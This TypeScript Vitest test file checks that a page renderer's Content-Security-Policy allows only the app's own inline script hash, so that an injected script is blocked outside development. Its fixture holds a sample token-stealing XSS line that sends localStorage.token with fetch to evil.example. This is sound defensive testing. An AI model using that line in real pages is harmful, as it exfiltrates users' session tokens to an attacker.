import type { RouterContextProvider, ServerBuild } from 'react-router'
import { describe, expect, it } from 'vitest'
import { readConfig } from '../../platform/config.ts'
import { inlineScriptsContext, renderedHtmlContext } from '../context.ts'
import type { PublicConfig } from '../public-config.ts'
import { hashOf } from '../security.ts'
import { createPageRenderer } from './page-renderer.ts'

const ours = 'startOfOurs()'
const injected = 'fetch("https://evil.example/?" + localStorage.token)'

function renderer(development: boolean) {
  const handleRequest = async (
    _request: Request,
    status: number,
    headers: Headers,
    _context: unknown,
    load: RouterContextProvider,
  ) => {
    headers.set('content-type', 'text/html; charset=utf-8')
    load.set(inlineScriptsContext, [ours])
    load.set(renderedHtmlContext, `<script>${ours}</script><p>a text<script>${injected}</script></p>`)
    return new Response(null, { status, headers })
  }
  const route = { id: 'root', path: '*', module: { default: () => null } }
  const build = {
    entry: { module: { default: handleRequest } },
    routes: { root: route },
    assets: { routes: {}, entry: { imports: [], module: '' }, url: '', version: '1' },
    future: {},
    routeDiscovery: { mode: 'initial' },
    ...{ publicPath: '/', assetsBuildDirectory: '', ssr: true, isSpaMode: false, prerender: [] },
  } as unknown as ServerBuild
  return createPageRenderer({
    build,
    config: readConfig({}),
    publicConfig: {
      apiUrl: '/api',
      siteUrl: 'https://clairavis.test',
      paymentSandbox: null,
      development,
    } as PublicConfig,
    reader: () => (() => {}) as never,
    sender: () => (async () => null) as never,
    isStaff: async () => false,
  })
}

const scriptSources = async (development = false) => {
  const { headers, html } = await renderer(development).render('/fr/page')
  expect(html).toContain(injected)
  return /script-src ([^;]*)/.exec(headers.get('content-security-policy') ?? '')?.[1]?.split(' ')
}

describe('the policy of a page', () => {
  it('names our own scripts and none that stands in the page besides: an injected one does not run', async () => {
    expect(await scriptSources()).toEqual(["'self'", hashOf(ours)])
  })

  it('lets the bundler’s scripts run during development alone', async () => {
    expect(await scriptSources(true)).toContain(hashOf(injected))
  })
})
